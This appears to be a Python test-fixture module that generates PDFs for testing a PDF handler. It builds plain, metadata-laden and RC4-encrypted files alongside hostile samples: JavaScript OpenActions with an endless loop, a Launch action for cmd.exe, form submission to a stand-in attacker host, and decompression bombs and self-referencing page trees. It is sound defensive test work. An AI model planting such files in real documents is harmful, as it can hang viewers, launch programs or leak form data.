"""PDFs: ordinary ones, ones that would like to run something, and ones that mean harm."""

import functools
import hashlib
import zlib

_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A file of numbered objects, the first of which is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(body), extra, body)


def paper(
    text: str = "Undangan rapat", pages: int = 1, *, catalogue: bytes = b"", page: bytes = b"",
    more: list[bytes] | None = None, trailer: bytes = b"", box: bytes = b"0 0 595 842", drawing: bytes = b"",
) -> bytes:  # fmt: skip
    """A PDF of some pages with a line of text each; `more` are objects from number 6 on."""
    shown = b"BT /F 24 Tf 72 700 Td (%s) Tj ET " % text.encode() + drawing
    more = more or []
    first = 6 + len(more)
    kids = b" ".join(b"%d 0 R" % (first + number) for number in range(pages))
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            stream(shown),
            b"<</Producer(x)>>",
            *more,
            *[
                b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R"
                b"/Resources<</Font<</F 3 0 R>>>>" + page + b">>"
            ]
            * pages,
        ],
        trailer,
    )


def telling(canary: str) -> bytes:
    """A PDF with the canary in its properties, its XMP, an attachment, a bookmark and a comment on the page."""
    note = canary.encode()
    return paper(
        catalogue=b"/Metadata 7 0 R/Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>/Outlines 10 0 R",
        page=b"/Annots[12 0 R]",
        more=[
            b"<</Author(%s)/Title(%s)/Creator(%s)>>" % (note, note, note),
            stream(b"<x:xmpmeta>" + note + b"</x:xmpmeta>", b"/Type/Metadata/Subtype/XML"),
            b"<</Type/Filespec/F(%s.txt)/EF<</F 9 0 R>>>>" % note,
            stream(note, b"/Type/EmbeddedFile"),
            b"<</Type/Outlines/First 11 0 R/Last 11 0 R/Count 1>>",
            b"<</Title(%s)/Parent 10 0 R>>" % note,
            b"<</Type/Annot/Subtype/Text/Rect[10 10 20 20]/Contents(%s)/T(%s)>>" % (note, note),
        ],
        trailer=b"/Info 6 0 R/ID[(%s)(%s)]" % (note[:16], note[:16]),
    ) + b"%" + note  # fmt: skip


def active() -> dict[str, bytes]:
    """PDFs that would like to do something when they are opened; drawn, they can do nothing."""
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://jahat.example/)>>>>"
    return {
        "script": paper(catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);while\\(1\\){})>>"),
        "script by name": paper(
            catalogue=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"
        ),
        "script of a page": paper(page=b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        "program to launch": paper(catalogue=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "link": paper(page=b"/Annots[6 0 R]", more=[link]),
        "file to send": paper(catalogue=b"/OpenAction<</S/SubmitForm/F(https://jahat.example/)>>"),
        "form of XFA": paper(catalogue=b"/AcroForm<</Fields[]/XFA 6 0 R>>", more=[stream(b"<xdp:xdp/>")]),
        "attachment": telling("lampiran"),
    }


def form(value: str) -> bytes:
    """A PDF whose text stands in a field that was filled in."""
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(nama)/V(%s)/Rect[72 600 500 640]/F 4/DA(/F 24 Tf 0 g)>>" % value.encode()
    )
    return paper("Isian", catalogue=b"/AcroForm<</Fields[6 0 R]/DR<</Font<</F 3 0 R>>>>/DA(/F 24 Tf 0 g)>>",
                 page=b"/Annots[6 0 R]", more=[field])  # fmt: skip


def locked(password: bytes = b"rahasia") -> bytes:
    """A PDF that opens with a password only (40 bits, after the standard of 1.4)."""
    number, mark = -4, b"0123456789abcdef"
    owner = _rc4(hashlib.md5(_padded(password)).digest()[:5], _padded(password))
    key = hashlib.md5(_padded(password) + owner + number.to_bytes(4, "little", signed=True) + mark).digest()[:5]
    lock = b"<</Filter/Standard/V 1/R 2/P %d/O<%s>/U<%s>>>" % (
        number, owner.hex().encode(), _rc4(key, _PAD).hex().encode(),
    )  # fmt: skip
    return paper(more=[lock], trailer=b"/Encrypt 6 0 R/ID[<%s><%s>]" % (mark.hex().encode(), mark.hex().encode()))


@functools.cache
def bombs() -> dict[str, bytes]:
    """PDFs that would like to take all the time or all the memory."""
    zeros = zlib.compress(b"\0" * 200_000_000, 9)
    twice = zlib.compress(zlib.compress(b"q " * 150_000_000, 9), 9)
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    image += b"/Filter/FlateDecode"
    itself = b"/Resources<</XObject<</X 6 0 R>>>>"
    nest = b"q " * 200_000 + b"Q " * 200_000
    pattern = b"/P gs " + b"0 0 1000 1000 re f " * 400_000
    return {
        "10,000 pages": paper(pages=10_000),
        "41 pages": paper(pages=41),
        "a page as large as a city": paper(box=b"0 0 10000000 10000000"),
        "a page without size": paper(box=b"0 0 0 0"),
        "a page turned inside out": paper(box=b"900 900 -900000000 -1"),
        "a line of a page": paper(box=b"0 0 14400 0.01"),
        "a picture of 60,000 x 60,000": paper(
            more=[stream(zeros, image)], page=b"/Resources<</XObject<</I 6 0 R>>>>",
            drawing=b"q 500 0 0 500 0 0 cm /I Do Q"
        ),
        "a drawing of 300 MB, packed twice": paper(
            more=[stream(twice, b"/Filter[/FlateDecode/FlateDecode]")], page=b"/Contents 6 0 R"
        ),
        "a drawing that never leaves a room": paper(drawing=nest),
        "a drawing of 400,000 fields": paper(drawing=pattern),
        "a tree of pages that holds itself": pdf(
            [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>"]
        ),
        "a drawing that draws itself": paper(
            more=[stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + itself)], page=itself,
            drawing=b"/X Do",
        ),
    }  # fmt: skip


def seeds() -> dict[str, bytes]:
    """Small sound PDFs that are then damaged."""
    return {"plain": paper(), "pages": paper(pages=3), "telling": telling("seed"), "form": form("isi")}


def _padded(password: bytes) -> bytes:
    return (password + _PAD)[:32]


def _rc4(key: bytes, data: bytes) -> bytes:
    box, j = list(range(256)), 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)
